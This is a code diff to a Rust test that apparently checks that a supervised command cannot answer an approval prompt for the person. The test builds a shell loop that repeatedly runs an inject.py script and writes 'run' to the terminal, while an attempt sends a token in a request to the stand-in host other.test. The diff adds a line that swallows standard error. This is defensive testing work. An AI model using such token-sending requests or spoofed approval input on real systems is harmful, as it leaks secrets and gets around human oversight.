@@ -108,8 +108,8 @@ pub(crate) fn the_command_cannot_answer_for_the_person(world: &World, place: &Pl
     let inject = place.write("home/project/inject.py", inject);
     let attempt = attempts.line(&world.token(), "get http://other.test/TOKEN");
     let script = format!(
-        "wc -c; {attempt_alone} & i=0; while kill -0 $! 2> /dev/null; do i=$((i + 1)); {python} {inject}; \
-         printf 'run\\n' >&2; (printf 'run\\n' > /dev/tty) 2> /dev/null; [ $i != 5 ] || echo tried >&2; done; wait;",
+        "wc -c; cat <&2 > swallowed 2> /dev/null & {attempt_alone} & i=0; while kill -0 $! 2> /dev/null; do i=$((i + 1)); {python} {inject}; \
+         printf 'run\\n' >&2; (printf 'run\\n' > /dev/tty) 2> /dev/null; [ $i -lt 5 ] || echo tried >&2; done; wait;",
         attempt_alone = attempt.trim_end(),
         inject = inject.display()
     );
